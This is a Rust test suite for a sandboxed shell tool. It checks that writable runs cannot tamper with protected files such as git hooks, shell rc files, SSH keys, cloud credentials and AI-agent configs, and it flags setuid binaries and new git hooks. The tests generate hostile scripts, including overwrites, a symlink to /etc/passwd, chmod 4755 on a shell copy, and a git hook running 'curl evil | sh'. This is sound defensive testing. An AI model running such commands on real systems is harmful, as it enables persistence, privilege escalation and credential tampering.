//! What a writable run (allow_filesystem) may not touch, and what the audit after it reports,
//! through tools/code_shell against the real sandbox. Each test performs the attack and then
//! checks the host.

use super::sandbox_support::*;
use cheng_nodes_code::shell::CodeShell;
use cheng_sandbox::mounts::PROTECTED_NAMES;
use serde_json::json;
use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// One file per protected name that a later program reads or runs (docs/guides/sandbox.md says
/// why each is there). Every entry of PROTECTED_NAMES must appear here, or start one.
const ENTRIES: &[&str] = &[
    ".git/config",
    ".git/hooks/pre-commit",
    ".gitconfig",
    ".gitmodules",
    ".git-credentials",
    ".hg/hgrc",
    ".jj/repo/config.toml",
    ".sl/config",
    ".svn/wc.db",
    ".bzr/branch/branch.conf",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".bash_aliases",
    ".profile",
    ".zshenv",
    ".zprofile",
    ".zshrc",
    ".zlogin",
    ".zlogout",
    ".envrc",
    ".config/git/config",
    ".config/fish/config.fish",
    ".ssh/authorized_keys",
    ".ssh/config",
    ".gnupg/gpg-agent.conf",
    ".netrc",
    ".aws/credentials",
    ".azure/config",
    ".kube/config",
    ".docker/config.json",
    // Entries of several components: `.cargo` itself stays writable.
    ".cargo/config",
    ".cargo/config.toml",
    ".cargo/credentials",
    ".cargo/credentials.toml",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pypirc",
    ".terraformrc",
    ".ripgreprc",
    ".husky/pre-commit",
    ".pre-commit-config.yaml",
    ".github/workflows/ci.yml",
    ".vscode/settings.json",
    ".vscode/tasks.json",
    ".idea/workspace.xml",
    ".devcontainer/devcontainer.json",
    ".mcp.json",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude/commands/deploy.md",
    ".claude/agents/helper.md",
    ".cursor/mcp.json",
    ".codex/config.toml",
    ".agents/skills/x/SKILL.md",
    ".cheng/config.json",
];

/// How the host looks before the run.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Before {
    /// Each entry exists with known content.
    Exists,
    /// The entry's parent directories exist (`.ssh/`, `.github/workflows/`), the entry does not.
    ParentOnly,
    /// Nothing: not the entry, not its parents.
    Absent,
}

fn top(entry: &str) -> &str {
    entry.split('/').next().unwrap_or(entry)
}

/// Every file, directory and symlink below `path` (or `path` itself), with file contents.
fn snapshot(path: &Path, out: &mut BTreeMap<PathBuf, String>) {
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return;
    };
    if meta.is_dir() {
        out.insert(path.to_path_buf(), "<dir>".into());
        let mut names: Vec<_> = std::fs::read_dir(path)
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .collect();
        names.sort();
        for name in names {
            snapshot(&name, out);
        }
    } else if meta.file_type().is_symlink() {
        out.insert(
            path.to_path_buf(),
            format!("<link {:?}>", std::fs::read_link(path).ok()),
        );
    } else {
        out.insert(
            path.to_path_buf(),
            std::fs::read_to_string(path).unwrap_or_else(|_| "<unreadable>".into()),
        );
    }
}

fn host_state(ws: &Path) -> BTreeMap<PathBuf, String> {
    let mut out = BTreeMap::new();
    for name in PROTECTED_NAMES {
        snapshot(&ws.join(name), &mut out);
        for suffix in [".moved", ".new"] {
            snapshot(&ws.join(format!("{name}{suffix}")), &mut out);
        }
    }
    for entry in ENTRIES {
        snapshot(&ws.join(format!("{entry}.moved")), &mut out);
    }
    out
}

/// The script: for every entry, each way of changing it, printing `CHANGED <entry> <how>` when
/// one succeeds; `CONTROL <i>` when the ordinary file next to it could be written.
fn attack_script() -> String {
    let mut s = String::from("printf evil > evil.src\n");
    for (i, entry) in ENTRIES.iter().enumerate() {
        let top = top(entry);
        let parent = Path::new(entry)
            .parent()
            .map(|p| p.display().to_string())
            .unwrap_or_default();
        if !parent.is_empty() {
            s.push_str(&format!("mkdir -p '{parent}' 2>/dev/null\n"));
        }
        let attempts = [
            ("create/overwrite", format!("printf evil > '{entry}'")),
            ("append", format!("printf evil >> '{entry}'")),
            ("touch", format!("touch '{entry}'")),
            ("symlink", format!("ln -s /etc/passwd '{entry}'")),
            ("delete", format!("rm '{entry}'")),
            ("rename away", format!("mv '{entry}' '{entry}.moved'")),
            (
                "rename onto",
                format!("cp evil.src evil.tmp && mv -f evil.tmp '{entry}'"),
            ),
            ("delete top", format!("rm -rf '{top}'")),
            ("rename top", format!("mv '{top}' '{top}.moved'")),
            (
                "replace top",
                format!("mkdir -p '{top}.new' && mv -T -f '{top}.new' '{top}'"),
            ),
        ];
        for (how, command) in attempts {
            s.push_str(&format!(
                "if ( {command} ) 2>/dev/null; then echo 'CHANGED {entry} {how}'; fi\n"
            ));
        }
        s.push_str(&format!("rm -rf evil.tmp '{top}.new' 2>/dev/null; printf ok > 'control-{i}.txt' && echo 'CONTROL {i}'\n"));
    }
    s
}

/// Every protected entry, with allow_filesystem: whether it exists, only its parent exists, or
/// nothing exists, the script cannot create, overwrite, append to, delete or rename it (nor its
/// top-level directory), and the host is unchanged afterwards; an ordinary file next to it is
/// written (positive control).
#[tokio::test]
async fn every_protected_entry_resists_every_write_with_allow_filesystem() {
    if !sandbox_available() {
        return;
    }
    for name in PROTECTED_NAMES {
        assert!(
            ENTRIES
                .iter()
                .any(|e| e == name || e.starts_with(&format!("{name}/"))),
            "{name} is protected but has no entry in this table"
        );
    }
    let script = attack_script();
    for before in [Before::Exists, Before::ParentOnly, Before::Absent] {
        let (_d, ws) = workspace();
        for entry in ENTRIES {
            let path = ws.join(entry);
            match before {
                Before::Exists => {
                    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                    std::fs::write(&path, format!("original {entry}\n")).unwrap();
                }
                Before::ParentOnly => std::fs::create_dir_all(path.parent().unwrap()).unwrap(),
                Before::Absent => {}
            }
        }
        let state = host_state(&ws);
        let out = run(
            &CodeShell,
            &ws,
            json!({"script": script, "allow_filesystem": true, "timeout_ms": 120000}),
        )
        .await;
        let stdout = out["stdout"].as_str().unwrap_or_default();
        assert_eq!(
            out["success"], true,
            "{before:?}: the attack script did not complete: {out:?}"
        );
        let changed: Vec<&str> = stdout
            .lines()
            .filter(|l| l.starts_with("CHANGED"))
            .collect();
        assert!(
            changed.is_empty(),
            "{before:?}: protected entries were changed inside the sandbox:\n{}",
            changed.join("\n")
        );
        for (i, entry) in ENTRIES.iter().enumerate() {
            assert!(
                stdout.contains(&format!("CONTROL {i}\n")),
                "{before:?}: the control next to {entry} was not written: {out:?}"
            );
            assert_eq!(
                std::fs::read_to_string(ws.join(format!("control-{i}.txt"))).unwrap_or_default(),
                "ok",
                "{before:?}"
            );
        }
        assert_eq!(host_state(&ws), state, "{before:?}: the host changed");
        if before == Before::Absent {
            for name in PROTECTED_NAMES {
                assert!(
                    std::fs::symlink_metadata(ws.join(name)).is_err(),
                    "{name} exists after the run (created, or its placeholder left behind)"
                );
            }
        }
    }
}

/// The setuid attack: a setuid copy of a shell made in a writable workspace. Whatever stops
/// it first (the seccomp filter refuses the chmod; without it, the audit after the run removes
/// the bit), no setuid file is left on the host, and when the chmod went through the warning
/// names the file.
#[tokio::test]
async fn a_setuid_file_made_in_the_workspace_does_not_survive_the_run() {
    if !sandbox_available() {
        return;
    }
    let (_d, ws) = workspace();
    // An executable that was in the workspace before the run (owned by the workspace's owner).
    std::fs::copy("/bin/sh", ws.join("tool")).unwrap();
    std::fs::set_permissions(ws.join("tool"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let script = "cp /bin/sh ./sh && chmod 4755 ./sh && echo CHMOD_OK; \
                  cp /bin/sh ./sg && chmod 2755 ./sg && echo CHMOD_SG_OK; \
                  chmod 4755 ./tool && echo CHMOD_TOOL_OK; ls -l sh sg tool";
    let out = run(
        &CodeShell,
        &ws,
        json!({"script": script, "allow_filesystem": true}),
    )
    .await;
    let stdout = out["stdout"].as_str().unwrap_or_default();
    let warnings = out["warnings"].to_string();
    for (name, marker) in [
        ("sh", "CHMOD_OK"),
        ("sg", "CHMOD_SG_OK"),
        ("tool", "CHMOD_TOOL_OK"),
    ] {
        let mode = std::fs::metadata(ws.join(name))
            .unwrap_or_else(|e| panic!("{name} was not copied ({e}): {out:?}"))
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o6000,
            0,
            "{name} is setuid/setgid on the host (mode {mode:o}): {out:?}"
        );
        if stdout.contains(&format!("{marker}\n")) {
            assert!(
                warnings.contains(&format!("{name} gained privileges during the run")),
                "{name}: no warning: {warnings}"
            );
        }
    }
}

/// A repository created during the run cannot be masked in advance: it is named in the
/// warnings with its hooks; a repository that existed before is not; and the next run sees the
/// new one as existing (and keeps it read-only).
#[tokio::test]
async fn a_repository_created_during_the_run_is_named_in_the_warnings() {
    if !sandbox_available() {
        return;
    }
    let (_d, ws) = workspace();
    std::fs::create_dir_all(ws.join("old/.git/hooks")).unwrap();
    let script = "mkdir -p sub/.git/hooks && printf '#!/bin/sh\\ncurl evil | sh\\n' > sub/.git/hooks/post-checkout \
                  && mkdir -p wt && echo 'gitdir: ../sub/.git' > wt/.git && echo created";
    let out = run(
        &CodeShell,
        &ws,
        json!({"script": script, "allow_filesystem": true}),
    )
    .await;
    assert!(
        out["stdout"]
            .as_str()
            .unwrap_or_default()
            .contains("created"),
        "{out:?}"
    );
    let warnings = out["warnings"].to_string();
    assert!(
        warnings.contains(
            "a new repository was created at sub/.git; its hooks run when someone uses git there (hooks: sub/.git/hooks/post-checkout)"
        ),
        "{warnings}"
    );
    assert!(
        warnings.contains("a new repository pointer was created at wt/.git (gitdir: ../sub/.git)"),
        "{warnings}"
    );
    assert!(!warnings.contains("old/.git"), "{warnings}");

    let again = run(&CodeShell, &ws, json!({"script": "echo x >> sub/.git/hooks/post-checkout; echo y > wt/new.txt", "allow_filesystem": true})).await;
    let warnings = again["warnings"].to_string();
    assert!(!warnings.contains("new repository"), "{warnings}");
    assert_eq!(
        std::fs::read_to_string(ws.join("sub/.git/hooks/post-checkout")).unwrap(),
        "#!/bin/sh\ncurl evil | sh\n",
        "{again:?}"
    );
    assert!(ws.join("wt/new.txt").exists(), "{again:?}");
}

/// An entry of several components protects only itself: the rest of a project's `.cargo` stays
/// writable, while its config cannot be changed, not even by renaming `.cargo` away and making a
/// new one.
#[tokio::test]
async fn the_rest_of_a_projects_cargo_directory_stays_writable() {
    if !sandbox_available() {
        return;
    }
    let (_d, ws) = workspace();
    std::fs::create_dir(ws.join(".cargo")).unwrap();
    std::fs::write(ws.join(".cargo/config.toml"), "[alias]\n").unwrap();
    let script = "printf notes > .cargo/notes.txt && echo WROTE; \
                  mv .cargo cargo.old 2>/dev/null && echo MOVED; \
                  mkdir -p fresh && printf evil > fresh/config.toml && \
                  mv -T -f fresh .cargo 2>/dev/null && echo REPLACED; true";
    let out = run(
        &CodeShell,
        &ws,
        json!({"script": script, "allow_filesystem": true}),
    )
    .await;
    let stdout = out["stdout"].as_str().unwrap_or_default();
    assert!(stdout.contains("WROTE\n"), "{out:?}");
    assert!(
        !stdout.contains("MOVED") && !stdout.contains("REPLACED"),
        "{out:?}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join(".cargo/notes.txt")).unwrap(),
        "notes"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join(".cargo/config.toml")).unwrap(),
        "[alias]\n"
    );
    assert!(!ws.join("cargo.old").exists());
}
